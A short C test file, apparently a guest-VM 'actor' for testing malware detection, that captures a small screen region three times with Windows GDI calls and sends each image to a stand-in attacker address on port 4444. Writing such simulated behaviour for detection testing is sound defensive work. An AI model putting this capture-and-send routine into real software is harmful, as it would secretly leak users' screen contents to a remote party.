#include "tests/vm/actors/win/actor.h"

/* Takes pictures of the screen and sends them: of nothing. */
int
main(void)
{
	static char picture[64 * 64 * 4];
	HDC screen, copy;
	HBITMAP map;

	actor_only_in_guest();
	screen = GetDC(NULL);
	copy = CreateCompatibleDC(screen);
	map = CreateCompatibleBitmap(screen, 64, 64);
	(void)SelectObject(copy, map);
	for (int i = 0; i < 3; i++) {
		(void)BitBlt(copy, 0, 0, 64, 64, screen, 0, 0, SRCCOPY);
		(void)GetBitmapBits(map, sizeof(picture), picture);
		(void)actor_send(
		    "198.51.100.66", 4444, picture, sizeof(picture), NULL, 0);
	}
	return 0;
}
